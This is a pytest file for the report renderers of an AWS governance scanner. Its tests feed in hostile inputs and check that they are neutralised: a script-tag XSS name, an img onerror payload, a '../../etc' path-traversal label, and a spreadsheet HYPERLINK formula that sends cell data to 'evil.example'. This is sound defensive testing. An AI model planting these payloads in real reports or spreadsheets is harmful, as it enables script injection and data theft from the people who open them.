@@ -1,0 +1,276 @@
+"""Evidence reports: goldens, escaping, notes, matrix, CSV/XLSX contents, atomic writes.
+
+The goldens in tests/golden come from fixtures/sample_docs.py; `make golden` regenerates them
+and the diff is the review.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+import openpyxl
+import pytest
+
+from fixtures.sample_docs import HOSTILE, SAMPLE_CHECKS, sample_documents, write_golden, write_notes
+from scanner.catalog import load_catalog
+from scanner.document import compute_digest
+from scanner.report import (
+    FORMATS,
+    ReportError,
+    file_stems,
+    md_escape,
+    parse_formats,
+    render_findings_csv,
+    render_html,
+    render_markdown,
+    render_matrix_markdown,
+    render_reports,
+    write_reports,
+)
+from scanner.report_tabular import CSV_COLUMNS
+
+GOLDEN = Path(__file__).resolve().parents[1] / "golden"
+
+
+@pytest.fixture(scope="module")
+def docs() -> list[dict[str, Any]]:
+    return sample_documents()
+
+
+def _cells(data: bytes) -> dict[str, list[list[Any]]]:
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return {ws.title: [list(row) for row in ws.iter_rows(values_only=True)] for ws in book.worksheets}
+
+
+def test_goldens_are_current(tmp_path: Path) -> None:
+    """Every golden file is what the renderers produce now (run `make golden` and review the diff)."""
+    written = write_golden(tmp_path)
+    names = sorted(p.relative_to(tmp_path).as_posix() for p in written)
+    expected = sorted(p.relative_to(GOLDEN).as_posix() for p in GOLDEN.rglob("*") if p.is_file())
+    assert sorted(set(names) | {n for n in expected if n.startswith("notes/")}) == expected
+    for name in names:
+        fresh, golden = (tmp_path / name).read_bytes(), (GOLDEN / name).read_bytes()
+        if name.endswith(".xlsx"):  # compare what a reader sees, not the zip's compression bytes
+            assert _cells(fresh) == _cells(golden), f"{name} differs: run `make golden` and review"
+        else:
+            assert fresh.decode() == golden.decode(), f"{name} differs: run `make golden` and review"
+
+
+def test_every_format_is_byte_identical_across_renders(docs: list[dict[str, Any]], tmp_path: Path) -> None:
+    notes = write_notes(tmp_path / "notes")
+    first = render_reports(docs, FORMATS, notes_dir=notes, checks=SAMPLE_CHECKS)
+    second = render_reports(docs, FORMATS, notes_dir=notes, checks=SAMPLE_CHECKS)
+    assert set(first) == {
+        *(f"appendix-{s}.{k}" for s in ("acme-prod", "clinic", "bakery", "law-firm-partners") for k in ("html", "md")),
+        "matrix.html", "matrix.md", "findings.csv", "evidence.xlsx",
+    }
+    assert first == second
+
+
+def test_hostile_resource_name_is_text_in_html(docs: list[dict[str, Any]]) -> None:
+    html = render_html(docs[0], load_catalog(), None, SAMPLE_CHECKS)
+    assert "<script>alert" not in html
+    assert html.count("<script") == 1  # govscan's own inline script only
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;|x" in html
+    # The content security policy forbids any fetch and any other script.
+    assert "default-src 'none'" in html and "script-src 'sha256-" in html
+    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)
+
+
+def _outside_fences(markdown: str) -> str:
+    return re.sub(r"^(`{3,})[^\n]*\n.*?^\1$", "", markdown, flags=re.S | re.M)
+
+
+def test_hostile_resource_name_is_text_in_markdown(docs: list[dict[str, Any]]) -> None:
+    md = render_markdown(docs[0], load_catalog(), None, SAMPLE_CHECKS)
+    prose = _outside_fences(md)
+    assert "<script" not in prose
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;\\|x" in prose
+    row = next(line for line in prose.splitlines() if line.startswith("| **FAIL**") and "alert(1)" in line)
+    assert len(re.findall(r"(?<!\\)\|", row)) == 7  # six cells: the name's | does not split the row
+    # Inside the evidence fence the JSON is verbatim, and a ``` in it does not close the fence.
+    assert "````json\n" in md and '"GroupName": "<script>alert(1)</script>|x"' in md
+
+
+@pytest.mark.parametrize(
+    ("raw", "escaped"),
+    [
+        ("a|b", "a\\|b"),
+        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
+        ("**bold** _it_ `code`", "\\*\\*bold\\*\\* \\_it\\_ \\`code\\`"),
+        ("[link](x) ~~s~~ $x$", "\\[link\\](x) \\~\\~s\\~\\~ \\$x\\$"),
+        ("two\nlines\r\n", "two lines"),
+        ("a & b \\ c", "a &amp; b \\\\ c"),
+    ],
+)
+def test_markdown_escaping(raw: str, escaped: str) -> None:
+    assert md_escape(raw) == escaped
+
+
+def test_notes_are_merged_and_missing_ones_listed(docs: list[dict[str, Any]], tmp_path: Path) -> None:
+    notes = write_notes(tmp_path / "notes")
+    files = render_reports(docs[:2], ["html", "md"], notes_dir=notes, checks=SAMPLE_CHECKS)
+    acme_md, clinic_md = files["appendix-acme-prod.md"], files["appendix-clinic.md"]
+    assert isinstance(acme_md, str) and isinstance(clinic_md, str)
+    assert "> Root credentials are held in the **partner's vault**" in acme_md
+    assert "&lt;b&gt;not bold&lt;/b&gt;" in acme_md  # the narrative's raw HTML stays text
+    assert "no narrative yet: [OPE-003](#ctl-OPE-003), [REL-002](#ctl-REL-002)." in acme_md
+    assert "no narrative yet: [TEC-002](#ctl-TEC-002), [ACCT-001](#ctl-ACCT-001)" in clinic_md
+    assert "match no control of this appendix (check their names): ACCT-01." in clinic_md
+    acme_html = files["appendix-acme-prod.html"]
+    assert isinstance(acme_html, str)
+    assert "Operational readiness was reviewed with Acme" in acme_html
+    assert "&lt;b&gt;not bold&lt;/b&gt;" in acme_html
+    # Without --notes nothing is listed as missing.
+    plain = render_markdown(docs[0], load_catalog(), None, SAMPLE_CHECKS)
+    assert "Partner narratives" not in plain and "no narrative" not in plain
+
+
+def test_manual_criteria_say_what_the_auditor_asks_for(docs: list[dict[str, Any]]) -> None:
+    md = render_markdown(docs[1], load_catalog(), None, SAMPLE_CHECKS)
+    sop = load_catalog().criteria["ACCT-001.5"].manual_evidence
+    assert f"*Manual evidence.* The auditor will ask for: {md_escape(sop)}" in md
+
+
+def test_appendix_shows_calls_behind_each_finding(docs: list[dict[str, Any]]) -> None:
+    md = render_markdown(docs[1], load_catalog(), None, SAMPLE_CHECKS)
+    error_row = next(line for line in md.splitlines() if line.startswith("| **ERROR**"))
+    call_id = re.search(r"\[(c\d+)\]\(#call-(c\d+)\)", error_row)
+    assert call_id and call_id.group(1) == call_id.group(2)
+    annex = next(line for line in md.splitlines() if line.startswith(f'| <a id="call-{call_id.group(1)}"></a>'))
+    assert "`guardduty:ListDetectors`" in annex and "| denied |" in annex and "AccessDeniedException" in annex
+
+
+def test_summary_names_account_scan_and_digest(docs: list[dict[str, Any]]) -> None:
+    html = render_html(docs[3], load_catalog(), None, SAMPLE_CHECKS)
+    for text in ("444455556666", "law firm &amp; partners",
+                 "arn:aws:sts::444455556666:assumed-role/GovscanReadOnly/govscan", "us-east-1, ap-southeast-2",
+                 "2026-03-02T12:00:00Z", "govscan 0.1.0", "aws-smb-competency 2025-08",
+                 docs[3]["digest"], "The scan was interrupted", "Region ap-southeast-2 was skipped"):
+        assert text in html, text
+    assert '<table id="control-table">' in html
+
+
+def test_matrix_applies_the_at_least_one_account_rule(docs: list[dict[str, Any]]) -> None:
+    md = render_matrix_markdown(docs, load_catalog(), [f"appendix-{s}.md" for s in file_stems(docs)])
+    rows = {line.split(" | ")[0].strip("| *"): line for line in md.splitlines() if line.startswith("| ")}
+    assert rows["ACCT-001"].endswith("**yes (3 of 4)** |")  # clinic's root has no MFA
+    assert "[**NOT\\_MET**](appendix-clinic.md#ctl-ACCT-001)" in rows["ACCT-001"]
+    assert rows["NETSEC-001"].endswith("**yes (1 of 4)** |")  # only the bakery meets it
+    assert rows["TEC-002"].endswith("**manual evidence** |")
+    assert rows["ACCT-001.2"].endswith(" yes (3 of 4) |")
+
+
+def test_csv_has_one_row_per_finding_in_stable_columns(docs: list[dict[str, Any]]) -> None:
+    rows = list(csv.reader(io.StringIO(render_findings_csv(docs))))
+    assert tuple(rows[0]) == CSV_COLUMNS
+    assert len(rows) - 1 == sum(len(d["findings"]) for d in docs)
+    hostile = next(r for r in rows if HOSTILE in r[CSV_COLUMNS.index("resource_id")])
+    assert hostile[CSV_COLUMNS.index("status")] == "FAIL"
+    assert json.loads(hostile[CSV_COLUMNS.index("evidence")])["GroupName"] == HOSTILE
+
+
+def _with_finding_text(doc: dict[str, Any], text: str) -> dict[str, Any]:
+    doc = json.loads(json.dumps(doc))
+    doc["findings"][0]["resource_id"] = text
+    doc["findings"][0]["message"] = text
+    doc["digest"] = compute_digest(doc)
+    return doc
+
+
+def test_spreadsheet_formulas_never_run(docs: list[dict[str, Any]]) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    doc = _with_finding_text(docs[0], formula)
+    rows = list(csv.reader(io.StringIO(render_findings_csv([doc]))))
+    assert any(r[CSV_COLUMNS.index("resource_id")] == "'" + formula for r in rows)
+    data = render_reports([doc], ["xlsx"], checks=SAMPLE_CHECKS)["evidence.xlsx"]
+    assert isinstance(data, bytes)
+    sheet = openpyxl.load_workbook(io.BytesIO(data))["acme-prod"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_xlsx_cells_match_the_scan_documents(docs: list[dict[str, Any]]) -> None:
+    data = render_reports(docs, ["html", "xlsx"], checks=SAMPLE_CHECKS)["evidence.xlsx"]
+    assert isinstance(data, bytes)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["Summary", "Scans", "acme-prod", "clinic", "bakery", "law firm & partners"]
+    summary = [list(r) for r in book["Summary"].iter_rows(values_only=True)]
+    header = summary[4]
+    names = ["acme-prod", "clinic", "bakery", "law firm & partners"]
+    assert header[:3] == ["Control", "Title", "Requirement"] and header[3:7] == names
+    by_id = {row[0]: row for row in summary[5:]}
+    for column, doc in enumerate(docs, start=3):
+        for control in doc["controls"]:
+            assert by_id[control["id"]][column] == control["status"], (control["id"], names[column - 3])
+            for criterion in control["criteria"]:
+                if criterion["id"] in by_id:
+                    assert by_id[criterion["id"]][column] == criterion["status"]
+    assert by_id["ACCT-001"][7] == "yes (3 of 4)"
+    assert by_id["ACCT-001"][9].splitlines()[0] == "appendix-acme-prod.html#ctl-ACCT-001"
+    scans = [list(r) for r in book["Scans"].iter_rows(values_only=True)]
+    assert [r[0] for r in scans[1:]] == [d["target"]["account_id"] for d in docs]
+    assert [r[11] for r in scans[1:]] == [d["digest"] for d in docs]
+    for doc, name in zip(docs, names, strict=True):
+        rows = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in book[name].iter_rows(min_row=2, values_only=True)]
+        keys = ("check_id", "status", "region", "resource_id", "message")
+        want = sorted(tuple(f[k] for k in keys) for f in doc["findings"])
+        assert sorted(tuple(r[k] for k in keys) for r in rows) == want
+        for row in rows:
+            finding = next(f for f in doc["findings"] if (f["check_id"], f["resource_id"], f["region"]) ==
+                           (row["check_id"], row["resource_id"], row["region"]))
+            assert json.loads(row["evidence"]) == finding["evidence"]
+            assert row["calls"] == " ".join(finding["calls"])
+
+
+def test_file_names_are_safe_and_unique(docs: list[dict[str, Any]]) -> None:
+    twin = json.loads(json.dumps(docs[0]))
+    twin["target"]["label"] = "../../etc/acme prod"
+    twin["digest"] = compute_digest(twin)
+    stems = file_stems([docs[0], docs[0], twin, docs[3]])
+    assert stems == ["acme-prod", "acme-prod-111122223333", "etc-acme-prod", "law-firm-partners"]
+
+
+def test_parse_formats() -> None:
+    assert parse_formats("md, HTML") == ("html", "md")
+    assert parse_formats("all") == FORMATS
+    with pytest.raises(ReportError, match="pdf"):
+        parse_formats("html,pdf")
+
+
+def test_invalid_document_writes_nothing(docs: list[dict[str, Any]], tmp_path: Path) -> None:
+    tampered = json.loads(json.dumps(docs[1]))
+    tampered["findings"][0]["status"] = "FAIL"  # was PASS: the digest no longer matches
+    out = tmp_path / "out"
+    with pytest.raises(ReportError, match="digest mismatch"):
+        write_reports([docs[0], tampered], out, FORMATS, checks=SAMPLE_CHECKS)
+    assert not out.exists()
+
+
+def test_unwritable_output_is_a_clear_error(docs: list[dict[str, Any]], tmp_path: Path) -> None:
+    blocker = tmp_path / "file"
+    blocker.write_text("not a directory")
+    with pytest.raises(ReportError, match="not a directory"):
+        write_reports(docs, blocker, ["md"], checks=SAMPLE_CHECKS)
+    assert blocker.read_text() == "not a directory"
+
+
+def test_write_reports_returns_the_files_it_wrote(docs: list[dict[str, Any]], tmp_path: Path) -> None:
+    written = write_reports(docs[:1], tmp_path / "one", ["html", "md", "csv"], checks=SAMPLE_CHECKS)
+    assert [p.name for p in written] == ["appendix-acme-prod.html", "appendix-acme-prod.md", "findings.csv"]
+    assert sorted(p.name for p in (tmp_path / "one").iterdir()) == sorted(p.name for p in written)  # no temp files
+
+
+def test_templates_are_package_data_with_autoescape() -> None:
+    from scanner.report import environment
+
+    html = environment("html")
+    assert html.autoescape is True and html.undefined.__name__ == "StrictUndefined"
+    rendered = html.from_string("{{ value }}").render(value="<b>")
+    assert rendered == "&lt;b&gt;"
+    assert environment("md").from_string("{{ value }}").render(value="<b>|") == "&lt;b&gt;\\|"
